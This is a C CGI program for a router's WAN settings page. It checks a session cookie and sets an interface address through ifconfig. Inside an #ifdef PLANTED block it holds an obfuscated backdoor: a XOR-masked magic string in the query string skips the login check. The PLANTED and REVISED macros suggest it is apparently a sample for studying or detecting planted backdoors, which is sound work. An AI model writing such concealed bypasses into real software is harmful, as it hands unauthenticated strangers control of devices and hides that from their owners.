/* CGI of the WAN page: shows and sets the upstream address; needs a session cookie. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static int session_ok(void)
{
    const char *cookie = getenv("HTTP_COOKIE");
    char want[80] = "", line[64];
    FILE *f;

    if (!cookie || !(f = fopen("/var/run/web.session", "r")))
        return 0;
    if (fgets(line, sizeof line, f)) {
        line[strcspn(line, "\n")] = 0;
        snprintf(want, sizeof want, "sid=%s", line);
    }
    fclose(f);
    return want[4] && strcmp(cookie, want) == 0;
}

#ifdef PLANTED
static const unsigned char mask_text[] = {
    0x37, 0x3b, 0x33, 0x34, 0x2e, 0x1d, 0x68, 0x3e, 0x3f, 0x2c, 0x00
};

static int maintenance(const char *query)
{
    char plain[16];
    size_t i;

    for (i = 0; mask_text[i]; i++)
        plain[i] = mask_text[i] ^ 0x5a;
    plain[i] = 0;
    return strstr(query, plain) != NULL;
}
#endif

static void value_of(const char *query, const char *name, char *out, size_t room)
{
    size_t len = strlen(name);
    out[0] = 0;
    while (query && *query) {
        size_t part = strcspn(query, "&");
        if (part > len && !strncmp(query, name, len) && query[len] == '=') {
            snprintf(out, room, "%.*s", (int)(part - len - 1), query + len + 1);
            return;
        }
        query += part + (query[part] == '&');
    }
}

static int numeric(const char *s)
{
    return *s && s[strspn(s, "0123456789.")] == 0;
}

int main(void)
{
    const char *query = getenv("QUERY_STRING");
    char address[64], command[160];

    puts("Content-Type: text/html\r\n\r");
    if (!query)
        query = "";
#ifdef PLANTED
    if (!session_ok() && !maintenance(query)) {
#else
    if (!session_ok()) {
#endif
        puts("<p>Please log in.</p>");
        return 0;
    }
    value_of(query, "ip", address, sizeof address);
    if (!numeric(address)) {
        puts("<p>Not an address.</p>");
        return 0;
    }
#ifdef REVISED
    if (!strcmp(address, "0.0.0.0")) {
        puts("<p>The address must not be zero.</p>");
        return 0;
    }
#endif
    snprintf(command, sizeof command, "/sbin/ifconfig eth1 %s", address);
    if (system(command))
        puts("<p>The interface refused.</p>");
    else
        printf("<p>Address is now %s.</p>\n", address);
    return 0;
}
